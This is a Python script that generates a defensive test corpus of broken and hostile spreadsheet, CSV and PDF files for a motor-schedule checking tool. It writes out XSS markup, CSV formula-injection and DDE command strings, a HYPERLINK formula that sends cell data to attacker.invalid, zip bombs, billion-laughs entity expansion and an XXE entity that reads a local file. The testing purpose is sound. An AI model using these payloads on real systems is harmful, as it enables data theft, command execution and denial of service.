"""Generate the corpus of broken and hostile submissions (run by tests/test_corpus.py).

Every file is built here, in a directory the caller gives, so nothing large is
committed. Each case says what is wrong with its file and what motorcheck must
do with it: refuse it (exit 2, one line matching ``refuse``) or review it with
the problem visible (``expect``: findings, notes, skipped rows, records).
``"either"`` is used only for PDFs read by a reader this corpus does not own;
those cases still have to meet every guarantee (one line or a sound review,
bounded time and memory, input untouched).

All tags, descriptions and numbers are invented test data.

Usage: ``python tests/corpus/make_corpus.py OUT_DIR`` writes the files and
``OUT_DIR/manifest.json``.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import sys
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import builders as B

# A fixed past time given to every corpus file, so a write by motorcheck would show in the mtime.
FIXED_MTIME_NS = 1_000_000_000 * 1_000_000_000

TITLE = "MOTOR SCHEDULE - INVENTED TEST PLANT"
HEADER = ["Tag", "Description", "HP", "Volts/Ph", "FLA (A)", "Branch conductors", "OCPD"]
MOTORS = [
    ["P-101", "Raw water pump", 25, "575/3", 27, "3#8 RW90 CU", "45A TD FUSE"],
    ["P-102", "Backwash pump", 10, "575/3", 11, "3#12 RW90 CU", "15A TD FUSE"],
    ["EF-1", "Exhaust fan", 1, "208/3", 4.6, "3#12 RW90 CU", "15A CB"],
]

# Hostile markup and formula text planted in cells; none may reach a report live.
SCRIPT = "<script>alert('x')</script>"
IMG = "<img src=x onerror=alert(1)>"
JS_LINK = '<a href="javascript:alert(1)">details</a>'
HYPERLINK = '=HYPERLINK("http://attacker.invalid/?d="&A1,"click")'
MARKUP = (SCRIPT, IMG, JS_LINK, "<svg onload", "<iframe", "<b>5</b>", "<style>*")


@dataclass
class Case:
    name: str
    file: str
    what: str
    outcome: str                      # "refuse" | "review" | "either"
    refuse: str = ""                  # regex for the one stderr line (case-insensitive)
    expect: list[dict] = field(default_factory=list)
    rows_read: int | None = None      # expected summary.rows_read when the case knows it
    bomb: bool = False                # resource attack: time and memory are reported
    pdf: bool = False


def schedule(*extra: Sequence[object], title: bool = True, motors: Sequence[Sequence[object]] = MOTORS) -> list:
    rows: list = [[TITLE], []] if title else []
    return rows + [HEADER] + [list(m) for m in motors] + [list(r) for r in extra]


def text_rows(rows: Sequence[Sequence[object]]) -> list[list[str]]:
    return [["" if v is None else (f"{v:g}" if isinstance(v, float) else str(v)) for v in row] for row in rows]


def csv_bytes(rows: Sequence[Sequence[object]], encoding: str = "utf-8", delimiter: str = ",",
              line_end: str = "\r\n") -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=line_end)
    writer.writerows(text_rows(rows))
    return buffer.getvalue().encode(encoding)


def finding(message: str, cell: str | None = None, check: str | None = None, status: str = "needs-info") -> dict:
    out = {"finding": {"status": status, "message": message}}
    if cell:
        out["finding"]["cell"] = cell
    if check:
        out["finding"]["check"] = check
    return out


# --------------------------------------------------------------------------- PDFs

def _pdf(draw: Callable, pages: int = 1, encrypt: str | None = None, size=(792, 612)) -> bytes:
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    kwargs = {"pagesize": size, "invariant": 1}
    if encrypt:
        from reportlab.lib.pdfencrypt import StandardEncryption
        kwargs["encrypt"] = StandardEncryption(encrypt, canPrint=0)
    pdf = canvas.Canvas(buffer, **kwargs)
    for page in range(pages):
        draw(pdf, page)
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def _table_text(pdf, page: int) -> None:
    y = 560
    for row in [HEADER] + text_rows(MOTORS):
        x = 40
        for cell in row:
            pdf.drawString(x, y, cell)
            x += 105
        y -= 18


def _strokes(pdf, page: int) -> None:
    """Lettering drawn as short line segments, as CAD programs export stroke fonts: no text objects."""
    pdf.setLineWidth(0.6)
    for row in range(5):
        for col in range(7):
            x0, y0 = 40 + col * 105, 560 - row * 18
            for k in range(5):  # a few 'letters' per cell, each a zig-zag of strokes
                x = x0 + k * 9
                pdf.lines([(x, y0, x + 3, y0 + 8), (x + 3, y0 + 8, x + 6, y0), (x + 1, y0 + 4, x + 5, y0 + 4)])
        pdf.line(36, 556 - row * 18, 770, 556 - row * 18)


def _raster(pdf, page: int) -> None:
    """A 'scanned' schedule: one grey image with dark bands where text was, and no text layer."""
    from PIL import Image, ImageDraw
    from reportlab.lib.utils import ImageReader

    image = Image.new("L", (900, 300), 235)
    sketch = ImageDraw.Draw(image)
    for row in range(6):
        for col in range(7):
            sketch.rectangle([20 + col * 125, 20 + row * 45, 110 + col * 125, 40 + row * 45], fill=40)
    pdf.drawImage(ImageReader(image), 30, 200, width=720, height=240)


def _notes_only(pdf, page: int) -> None:
    text = pdf.beginText(40, 560)
    for line in ("GENERAL NOTES", "1. All work to the local electrical code.", "2. Verify site conditions.",
                 "3. This sheet has no equipment schedule."):
        text.textLine(line)
    pdf.drawText(text)


def many_pages(count: int) -> bytes:
    """``count`` pages of one line of plan notes each (one shared content stream)."""
    return B.pdf([b"BT /F1 10 Tf 40 560 Td (Plan sheet - general notes, no schedule) Tj ET"] * count)


def many_objects(count: int) -> bytes:
    """One page drawing ``count`` tiny stroked rectangles (a cycle of 1,000 positions)."""
    cycle = b"".join(b"%d %d 1 1 re S\n" % (20 + (i * 7) % 750, 20 + (i * 13) % 570) for i in range(1000))
    return B.pdf([b"0.1 w\n" + cycle * (count // 1000)])


# --------------------------------------------------------------------------- resource attacks

def zip_bomb_ratio() -> bytes:
    """A valid-looking .xlsx whose sheet XML unpacks from ~40 KiB to 40 MiB of whitespace (ratio ~1000)."""
    members = B.xlsx_members(B.xlsx({"Motors": schedule()}))
    sheet = members["xl/worksheets/sheet1.xml"]
    padded = sheet.replace(b"<sheetData>", b"<sheetData>" + b" " * (40 * 2**20), 1)
    return B.raw_zip([B.member(name, padded if name == "xl/worksheets/sheet1.xml" else data)
                      for name, data in members.items()])


def zip_bomb_overlap() -> bytes:
    """Overlapping entries: 4,000 directory entries all pointing at one 2 MiB member (8 GB declared)."""
    members = [B.member(name, data) for name, data in B.xlsx_members(B.xlsx({"Motors": schedule()})).items()]
    members.append(B.member("xl/media/filler.bin", b"\0" * (2 * 2**20)))
    refs = [(f"xl/media/copy{i:04d}.bin", len(members) - 1) for i in range(4000)]
    return B.raw_zip(members, refs)


def padded_cells() -> bytes:
    """600,000 stored but empty (style-only) cells: compresses normally, would cost openpyxl ~400 MB."""
    members = B.xlsx_members(B.xlsx({"Motors": schedule()}))
    cells = b'<c s="0"/>' * 20  # a cell's r attribute is optional: it follows the previous one
    rows = b"".join(b'<row r="%d">%s</row>' % (r, cells) for r in range(20, 30_020))
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"].replace(b"</sheetData>",
                                                                                      rows + b"</sheetData>", 1)
    return B.repack(members)


def far_cell() -> bytes:
    """A normal schedule plus one value in the sheet's last cell, XFD1048576."""
    members = B.xlsx_members(B.xlsx({"Motors": schedule()}))
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>end</t></is></c></row>'
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"].replace(b"</sheetData>",
                                                                                      far + b"</sheetData>", 1)
    return B.repack(members)


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
          + "]>")


def entity_expansion(part: str) -> bytes:
    """Billion laughs: a DTD whose nested entities expand to ~3 GB, used in one cell."""
    data = B.xlsx({"Motors": schedule(["&lol9;"])})

    def plant(xml: bytes) -> bytes:
        xml = xml.replace(b"&amp;lol9;", b"&lol9;")
        head, sep, rest = xml.partition(b"?>")
        return (head + sep + LAUGHS.encode() + rest) if sep else LAUGHS.encode() + xml
    return B.patch_xlsx(data, part, plant)


def external_entity() -> bytes:
    """XXE: an external entity that would read a local file into a cell."""
    data = B.xlsx({"Motors": schedule(["&xxe;"])})

    def plant(xml: bytes) -> bytes:
        head, sep, rest = xml.partition(b"?>")
        doctype = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
        body = (rest if sep else xml).replace(b"&amp;xxe;", b"&xxe;")
        return (head + sep if sep else b"") + doctype + body
    return B.patch_xlsx(data, "xl/worksheets/sheet1.xml", plant)


# --------------------------------------------------------------------------- the cases

def build(directory: Path) -> list[Case]:
    """Write every corpus file into ``directory``; return the cases."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []
    base_xlsx = B.xlsx({"Motors": schedule()})
    base_csv = csv_bytes(schedule())
    n_base = len(schedule())

    def add(case: Case, data: bytes | None = None, size: int | None = None) -> None:
        path = directory / case.file
        if data is not None:
            path.write_bytes(data)
        else:  # a sparse file of ``size`` zero bytes
            with open(path, "wb") as stream:
                stream.truncate(size)
        cases.append(case)

    # ---- containers and formats
    add(Case("empty-file", "empty.csv", "0 bytes", "refuse", r"empty"), b"")
    add(Case("whitespace-only", "blank.csv", "only spaces and line breaks", "refuse", r"empty"), b" \r\n\t\r\n  \n")
    add(Case("header-only-csv", "header-only.csv", "the header row and nothing else", "refuse",
             r"header was found .* no motor rows"), csv_bytes([HEADER]))
    add(Case("header-only-xlsx", "header-only.xlsx", "title and header, no rows", "refuse",
             r"header was found .* no motor rows"), B.xlsx({"Motors": [[TITLE], [], HEADER]}))
    add(Case("csv-named-xlsx", "really-csv.xlsx", "CSV text saved under an .xlsx name", "review",
             expect=[{"motors": 3}], rows_read=n_base), base_csv)
    add(Case("xlsx-named-csv", "really-xlsx.csv", "a workbook saved under a .csv name", "review",
             expect=[{"motors": 3}], rows_read=n_base), base_xlsx)
    add(Case("truncated-xlsx", "truncated.xlsx", "a workbook cut off at 60 % of its bytes", "refuse",
             r"damaged|could not be opened"), base_xlsx[: int(len(base_xlsx) * 0.6)])
    members = B.xlsx_members(base_xlsx)
    good = B.raw_zip([B.member(n, d) for n, d in members.items()])
    sheet_at = good.index(b"xl/worksheets/sheet1.xml") + len("xl/worksheets/sheet1.xml") + 40
    corrupt = good[:sheet_at] + bytes(b ^ 0x5A for b in good[sheet_at:sheet_at + 24]) + good[sheet_at + 24:]
    add(Case("corrupt-xlsx", "corrupt.xlsx", "sheet data bytes flipped inside the zip (bad CRC / deflate)", "refuse",
             r"could not be opened|damaged"), corrupt)
    add(Case("binary-garbage", "garbage.xlsx", "random binary bytes with an .xlsx name", "refuse",
             r"binary file"), bytes((i * 7919 + 13) % 256 for i in range(4096)))
    add(Case("password-xlsx", "locked.xlsx", "password-protected workbook (OLE2 EncryptedPackage)", "refuse",
             r"password"), B.encrypted_package())
    add(Case("legacy-xls", "legacy.xls", "Excel 97-2003 binary workbook", "review",
             expect=[{"motors": 3}, {"note": r"\.xls workbook: hidden rows"},
                     {"record": {"tag": "P-101", "field": "fla_a", "value": 27}}], rows_read=n_base),
        B.xls([("Motors", schedule())], {"Motors": [(0, 0, 0, 6)]}))
    add(Case("opendocument-ods", "schedule.ods", "OpenDocument spreadsheet", "review",
             expect=[{"motors": 3}, {"record": {"tag": "EF-1", "field": "voltage_v", "value": 208}}],
             rows_read=n_base), B.ods([("Motors", schedule())]))
    add(Case("zip-not-workbook", "archive.xlsx", "a zip of unrelated files", "refuse", r"zip archive, not an Excel"),
        B.raw_zip([B.member("readme.txt", b"hello"), B.member("data/a.bin", b"\x01\x02")]))
    add(Case("html-as-xls", "export.xls", "an HTML table saved with an .xls name", "refuse", r"web page"),
        b"<html><body><table><tr><td>Tag</td><td>HP</td></tr></table></body></html>")

    # ---- CSV encodings and shapes
    cp_rows = schedule(motors=[["P-101", "Pompe d'eau brute – été", 25, "575/3", 27, "3#8 RW90 CU", "45A TD FUSE"],
                               ["P-102", "Soufflante °C ±5 µ", "7½", "575/3", 9, "3#12 RW90 CU", "15A TD FUSE"]])
    add(Case("csv-cp1252", "cp1252.csv", "Windows-1252 text with accents and an en dash", "review",
             expect=[{"record": {"tag": "P-101", "field": "description", "value": "Pompe d'eau brute – été"}},
                     {"record": {"tag": "P-102", "field": "hp", "value": 7.5}}], rows_read=len(cp_rows)),
        csv_bytes(cp_rows, encoding="cp1252"))
    add(Case("csv-utf8-bom", "bom.csv", "UTF-8 with a byte-order mark before the first header", "review",
             expect=[{"motors": 3}, {"tag": "P-101"}], rows_read=n_base), csv_bytes(schedule(), "utf-8-sig"))
    semi = schedule(motors=[["P-101", "Pump", "7,5", "575/3", "9,0", "3#12 RW90 CU", "15A TD FUSE"]])
    add(Case("csv-semicolon", "semicolon.csv", "';' delimiter with decimal commas", "review",
             expect=[finding(r"decimal comma", "C4"), finding(r"decimal comma", "E4"),
                     {"record": {"tag": "P-101", "field": "voltage_v", "value": 575}}], rows_read=len(semi)),
        csv_bytes(semi, delimiter=";"))
    add(Case("tsv-tabs", "tabs.tsv", "tab-delimited text", "review", expect=[{"motors": 3}], rows_read=n_base),
        csv_bytes(schedule(), delimiter="\t"))
    add(Case("csv-utf16", "unicode.txt", "UTF-16 'Unicode text' export with BOM", "review",
             expect=[{"motors": 3}], rows_read=n_base), csv_bytes(schedule(), encoding="utf-16"))
    quoted = schedule(motors=[["P-101", "Raw water\npump,\nnorth bay", 25, "575/3", 27, "3#8 RW90 CU", "45A TD FUSE"],
                              ["P-102", 'Backwash "B"\r\npump', 10, "575/3", 11, "3#12 RW90 CU", "15A TD FUSE"]])
    add(Case("csv-quoted-newlines", "newlines.csv", "line breaks and quotes inside quoted cells", "review",
             expect=[{"motors": 2}, {"tag": "P-102"}], rows_read=len(quoted)), csv_bytes(quoted))
    ragged = [[TITLE], HEADER, MOTORS[0][:4], list(MOTORS[1]) + ["extra", "cells", "here"], MOTORS[2][:1] + [""] * 2]
    add(Case("csv-ragged", "ragged.csv", "rows shorter and longer than the header", "review",
             expect=[{"tag": "P-101"}, {"tag": "P-102"}], rows_read=5), csv_bytes(ragged))

    # ---- workbook structure
    add(Case("hidden-sheet", "hidden-sheet.xlsx", "the schedule sits on a hidden sheet behind a cover sheet", "review",
             expect=[{"motors": 3}, {"note": r"Sheet Motors is hidden"}]),
        B.xlsx({"Cover": [["Drawing register"], ["E-601", "Motor schedule"]], "Motors": schedule()},
               hidden_sheets=["Motors"]))
    add(Case("hidden-rows", "hidden-rows.xlsx", "a motor row hidden in the workbook", "review",
             expect=[{"motors": 3}, {"note": r"rows 5 are hidden"}], rows_read=n_base),
        B.xlsx({"Motors": schedule()}, hidden_rows={"Motors": [5]}))
    add(Case("several-sheets", "several.xlsx", "two sheets hold a motor schedule (current and old)", "review",
             expect=[{"motors": 5}, {"note": r"found on 2 sheets"}, {"note": r"Tag P-101 appears more than once"}]),
        B.xlsx({"Motors": schedule(), "Motors (old rev)": schedule(motors=MOTORS[:2])}))
    merged_rows = [[TITLE], [], ["Tag", "Description", "Motor", None, "FLA (A)", "Branch circuit", None],
                   [None, None, "HP", "Volts/Ph", None, "Conductors", "OCPD"],
                   ["MCC-1"], *[list(m) for m in MOTORS], ["P-103", "Standby pump (as P-102)", 10, None, 11,
                                                          "3#12 RW90 CU", "15A TD FUSE"]]
    add(Case("merged-everywhere", "merged.xlsx", "merged title, group headers, section row and a merged voltage",
             "review", expect=[{"motors": 4}, {"tag": "P-103"}], rows_read=len(merged_rows)),
        B.xlsx({"Motors": merged_rows},
               merges={"Motors": ["A1:G1", "C3:D3", "F3:G3", "A3:A4", "B3:B4", "E3:E4", "A5:G5", "D8:D9"]}))
    formulas = {"Motors": {"E4": "=ROUND(C4*1.08,0)", "E5": "=C5*1.1", "C6": "=0.5+0.5"}}
    cached = B.patch_xlsx(B.xlsx({"Motors": schedule()}, formulas=formulas), "xl/worksheets/sheet1.xml",
                          lambda xml: B.cache_formula_values(xml, {"E4": 27, "E5": 11, "C6": 1}))
    add(Case("formulas-cached", "formulas-cached.xlsx", "formulas with the values the spreadsheet saved", "review",
             expect=[{"record": {"tag": "P-101", "field": "fla_a", "value": 27}},
                     {"record": {"tag": "EF-1", "field": "hp", "value": 1}}, {"no_finding": r"formula"}],
             rows_read=n_base), cached)
    add(Case("formulas-no-cache", "formulas-uncached.xlsx", "formulas saved without values (never calculated)",
             "review", expect=[finding(r"formula saved without its result", "Motors!E4"),
                               finding(r"formula saved without its result", "Motors!C6"), {"motors": 3}],
             rows_read=n_base), B.xlsx({"Motors": schedule()}, formulas=formulas))
    dated = schedule(motors=[["P-101", "Pump", dt.datetime(2024, 3, 1), "575/3", 27, "3#8 RW90 CU", "45A TD FUSE"],
                             ["P-102", "Pump", 10, "575/3", dt.time(7, 30), "3#12 RW90 CU", "15A TD FUSE"]])
    add(Case("dates-in-numbers-xlsx", "dates.xlsx", "dates and times where hp and FLA belong", "review",
             expect=[finding(r"date or time '2024-03-01'", "Motors!C4"), finding(r"date or time '07:30'", "Motors!E5")],
             rows_read=len(dated)), B.xlsx({"Motors": dated}))
    dated_csv = schedule(motors=[["P-101", "Pump", 25, "575/3", "3/1/2024", "3#8 RW90 CU", "45A TD FUSE"]])
    add(Case("dates-in-numbers-csv", "dates.csv", "a date typed in the FLA column", "review",
             expect=[finding(r"date or time '3/1/2024'", "E4")], rows_read=len(dated_csv)), csv_bytes(dated_csv))

    # ---- values
    dup = schedule(motors=MOTORS + [["p-101", "Raw water pump (dup)", 25, "575/3", 27, "3#8 RW90 CU", "45A TD FUSE"]])
    add(Case("duplicate-tags", "duplicates.csv", "the same tag on two rows", "review",
             expect=[{"motors": 4}, {"note": r"Tag P-101 appears more than once"}], rows_read=len(dup)), csv_bytes(dup))
    bad_numbers = schedule(motors=[["N-1", "Negative hp", "-5", "575/3", 6, "3#12", "15A CB"],
                                   ["N-2", "Zero FLA", 5, "575/3", "0", "3#12", "15A CB"],
                                   ["N-3", "NaN hp", "NaN", "575/3", 6, "3#12", "15A CB"],
                                   ["N-4", "Infinite FLA", 5, "575/3", "inf", "3#12", "15A CB"],
                                   ["N-5", "Zero volts", 5, "0", 6, "3#12", "15A CB"]])
    add(Case("negative-zero-nan", "bad-numbers.csv", "negative, zero, NaN and infinite values", "review",
             expect=[finding(r"negative", "C4"), finding(r"greater than zero", "E5"), finding(r"", "C6"),
                     finding(r"", "E7"), finding(r"", "D8"), {"motors": 5}], rows_read=len(bad_numbers)),
        csv_bytes(bad_numbers))
    absurd = schedule(motors=[["X-1", "Huge current", 25, "575/3", "50000", "3#8 RW90 CU", "45A TD FUSE"],
                              ["X-2", "Huge motor on 120 V", 5000, "120/1", 40, "3#8 RW90 CU", "45A TD FUSE"],
                              ["X-3", "FLA far too small", 100, "575/3", 2, "3#8 RW90 CU", "45A TD FUSE"]])
    add(Case("absurd-values", "absurd.csv", "FLA 50 000 A, 5 000 hp on 120 V, 100 hp drawing 2 A", "review",
             expect=[finding(r"above the 20000 A limit", "E4"),
                     finding(r"would draw at least", None, "record-plausibility"),
                     finding(r"FLA 2 A is 0\.\d+ times the least current", None, "record-plausibility")],
             rows_read=len(absurd)), csv_bytes(absurd))
    kw = schedule(motors=[["K-1", "Fan rated in kW", "7.5 kW", "575/3", 9, "3#12 RW90 CU", "15A TD FUSE"],
                          ["K-2", "Fan, kW without unit", "5,5", "575/3", 7, "3#12 RW90 CU", "15A TD FUSE"]])
    add(Case("kw-in-hp-column", "kw-in-hp.csv", "a kW rating written in the HP column", "review",
             expect=[{"record": {"tag": "K-1", "field": "kw", "value": 7.5}},
                     {"record": {"tag": "K-1", "field": "hp", "value": None}}, finding(r"decimal comma", "C5")],
             rows_read=len(kw)), csv_bytes(kw))
    partial = schedule(motors=[["Q-1", "Conductor with junk", 10, "575/3", 11, "3#4 XYZ", "20A TD FUSE"],
                               ["Q-2", "Device with junk", 10, "575/3", 11, "3#12 RW90 CU", "125A ??"]])
    add(Case("partial-strings", "partial.csv", "conductor and device cells that parse only in part", "review",
             expect=[finding(r"XYZ", "F4"), finding(r"\?\?", "G5")], rows_read=len(partial)), csv_bytes(partial))
    big = "motor " * (2**20 // 6)
    long_rows = schedule(motors=[["L-1", big, 10, "575/3", 11, "3#12 RW90 CU", "15A TD FUSE"],
                                 ["L-2", "Long hp cell", "1" * 40_000, "575/3", 11, "3#12 RW90 CU", "15A TD FUSE"]])
    add(Case("long-cells-xlsx", "long-cells.xlsx", "a 1 MB description and a 40 000-digit hp cell", "review",
             expect=[finding(r"too long", "Motors!C5"), {"motors": 2}], rows_read=len(long_rows)),
        B.xlsx({"Motors": long_rows}))
    add(Case("long-cell-csv", "long-cell.csv", "a 1 MB cell (as an unclosed quote produces)", "refuse",
             r"longer than 131,072 characters"), csv_bytes(long_rows))
    intl = schedule(motors=[["泵-101", "原水泵", 25, "575/3", 27, "3#8 RW90 CU", "45A TD FUSE"],
                            ["НАС-2", "Насос промывки", 10, "575/3", 11, "3#12 RW90 CU", "15A TD FUSE"],
                            ["م-3", "مروحة العادم", 1, "208/3", 4.6, "3#12 RW90 CU", "15A CB"],
                            ["Ω-4", "Ventilateur \u202eevil\u202c 🙂", 1, "208/3", 4.6, "3#12 RW90 CU", "15A CB"]])
    add(Case("non-latin", "international.csv", "Chinese, Cyrillic, Arabic, emoji and a bidi override", "review",
             expect=[{"tag": "泵-101"}, {"tag": "НАС-2"}, {"tag": "م-3"}, {"motors": 4}], rows_read=len(intl)),
        csv_bytes(intl))
    ctrl = schedule(motors=[["C-1\x1b[31m", "Bell\x07 and\x08 backspace\x1b]0;owned\x07", 10, "575/3", 11,
                             "3#12 RW90 CU", "15A TD FUSE"], ["C-2", "Form\x0cfeed\x0bvtab", "1\x1b", "208/3", 4.6,
                                                              "3#12 RW90 CU", "15A CB"]])
    add(Case("control-characters", "control.csv", "terminal escape sequences and other control characters", "review",
             expect=[{"motors": 2}, {"stdout_clean": True}], rows_read=len(ctrl)), csv_bytes(ctrl))
    add(Case("nul-bytes", "nul.csv", "NUL bytes inside a CSV", "refuse", r"binary file"),
        csv_bytes(schedule()).replace(b"Raw water", b"Raw\x00water"))

    # ---- hostile markup and formula injection
    hostile = schedule(motors=[[SCRIPT, IMG, 10, "575/3", 11, "3#12 RW90 CU", "15A TD FUSE"],
                               ["H-2", JS_LINK, 1, "208/3", 4.6, "3#12 RW90 CU", "15A CB"],
                               ["H-3", "<iframe src='http://attacker.invalid'></iframe>", "<b>5</b>", "575/3", 6.1,
                                "<style>*{}</style>", '"><svg onload=alert(1)>']])
    add(Case("html-script-csv", "markup.csv", "<script>, <img onerror>, javascript: links, iframes in cells",
             "review", expect=[{"motors": 3}], rows_read=len(hostile)), csv_bytes(hostile))
    add(Case("html-script-xlsx", "markup.xlsx", "markup in cells and in the sheet name", "review",
             expect=[{"motors": 3}, {"tag": SCRIPT}], rows_read=len(hostile)), B.xlsx({"<svg onload=alert(1)>": hostile}))
    inject = schedule(motors=[[HYPERLINK, "+cmd|' /C calc'!A0", 10, "575/3", 11, "3#12 RW90 CU", "15A TD FUSE"],
                              ["@SUM(1+1)*cmd", "-2+3+cmd|' /C notepad'!A0", 1, "208/3", 4.6, "3#12 RW90 CU", "15A CB"],
                              ["\tTAB-1", "=1+1", "=2*3", "575/3", 6.1, "3#12 RW90 CU", "15A CB"]])
    add(Case("formula-injection-csv", "injection.csv", "=HYPERLINK, +cmd, -2+3, @SUM, tab-led cells", "review",
             expect=[finding(r"spreadsheet formula", "A4"), finding(r"", "C6"), {"tag": "TAB-1"},
                     {"csv_neutralised": True}], rows_read=len(inject)),
        csv_bytes(inject))
    link = {"Motors": {"B6": '=HYPERLINK("http://attacker.invalid/?d="&A6,"see datasheet")'}}
    add(Case("formula-injection-xlsx", "injection.xlsx", "formula text stored as text, and a live HYPERLINK formula",
             "review", expect=[{"csv_neutralised": True}, {"record": {"tag": "TAB-1", "field": "description",
                                                                       "value": "see datasheet"}}],
             rows_read=len(inject)),
        B.patch_xlsx(B.xlsx({"Motors": inject}, formulas=link), "xl/worksheets/sheet1.xml",
                     lambda xml: B.cache_formula_values(xml, {"B6": "see datasheet"})))

    # ---- resource attacks
    add(Case("zip-bomb-ratio", "bomb-ratio.xlsx", "40 MiB of sheet XML packed ~1000:1 into a small file",
             "refuse", r"compressed [\d,]+ to 1", bomb=True), zip_bomb_ratio())
    add(Case("zip-bomb-overlap", "bomb-overlap.xlsx", "4,000 entries sharing one member: 8 GB declared",
             "refuse", r"would unpack to", bomb=True), zip_bomb_overlap())
    add(Case("padded-cells", "padded.xlsx", "600,000 stored empty cells (normal compression)", "either",
             r"stores more than [\d,]+ cells", bomb=True), padded_cells())
    add(Case("far-cell", "far-cell.xlsx", "one value in cell XFD1048576", "refuse", r"rows up to 1,048,576",
             bomb=True), far_cell())
    add(Case("entity-expansion-sheet", "laughs-sheet.xlsx", "billion-laughs DTD in the sheet XML", "refuse",
             r"declares entities", bomb=True), entity_expansion("xl/worksheets/sheet1.xml"))
    add(Case("entity-expansion-workbook", "laughs-workbook.xlsx", "billion-laughs DTD in workbook.xml", "refuse",
             r"declares entities", bomb=True), entity_expansion("xl/workbook.xml"))
    add(Case("external-entity", "xxe.xlsx", "external entity reading a local file", "refuse", r"declares entities"),
        external_entity())
    add(Case("entity-expansion-ods", "laughs.ods", "billion-laughs DTD in an OpenDocument content.xml", "either",
             bomb=True), B.ods([("Motors", schedule(["&lol9;"]))], LAUGHS).replace(b"&amp;lol9;", b"&lol9;"))
    many_rows = b"Tag,HP\r\n" + b"".join(b"R-%d,1\r\n" % i for i in range(150_001))
    add(Case("csv-too-many-rows", "rows.csv", "150,002 records", "refuse", r"rows up to|150,000", bomb=True), many_rows)
    gap = csv_bytes(schedule()) + b"\r\n" * 5_000 + b"End of schedule\r\n"
    add(Case("csv-blank-gap", "gap.csv", "5,000 blank lines before a last note", "review",
             expect=[{"motors": 3}, {"skipped": {"row": n_base + 5_001, "reason": r"note|outside|section"}}],
             rows_read=n_base + 5_001, bomb=True), gap)
    add(Case("oversized-file", "huge.csv", "a 65 MiB file (sparse, all zero bytes)", "refuse", r"larger than the 64",
             bomb=True), size=65 * 2**20)

    # ---- PDFs (read by checker/ingest/pdf.py when present; refused as 'not a spreadsheet' otherwise)
    add(Case("pdf-no-text-layer", "scanned.pdf", "a scanned schedule: one raster image, no text", "refuse",
             r"pdf|text|scan|image", pdf=True), _pdf(_raster))
    add(Case("pdf-encrypted", "encrypted.pdf", "a PDF with a user password", "refuse", r"pdf|password|encrypt",
             pdf=True), _pdf(_table_text, encrypt="invented-password"))
    text_pdf = _pdf(_table_text)
    add(Case("pdf-damaged", "damaged.pdf", "a PDF cut off at 45 % of its bytes", "refuse", r"pdf|damaged|read",
             pdf=True), text_pdf[: int(len(text_pdf) * 0.45)])
    add(Case("pdf-vector-text", "strokes.pdf", "lettering drawn as vector strokes (no text objects)", "refuse",
             r"pdf|text", pdf=True), _pdf(_strokes))
    add(Case("pdf-no-motor-table", "notes.pdf", "general notes and no table", "refuse", r"pdf|schedule|table",
             pdf=True), _pdf(_notes_only))
    add(Case("pdf-thousands-of-pages", "pages.pdf", "2,000 pages of notes", "either", pdf=True, bomb=True),
        many_pages(2000))
    add(Case("pdf-many-objects", "objects.pdf", "one page drawing 1,000,000 rectangles", "either", pdf=True,
             bomb=True), many_objects(1_000_000))

    for case in cases:
        os.utime(directory / case.file, ns=(FIXED_MTIME_NS, FIXED_MTIME_NS))
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: make_corpus.py OUT_DIR", file=sys.stderr)
        return 2
    out = Path(argv[0])
    cases = build(out)
    (out / "manifest.json").write_text(json.dumps([asdict(c) for c in cases], indent=1, ensure_ascii=False),
                                       encoding="utf-8")
    print(f"{len(cases)} cases written to {out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
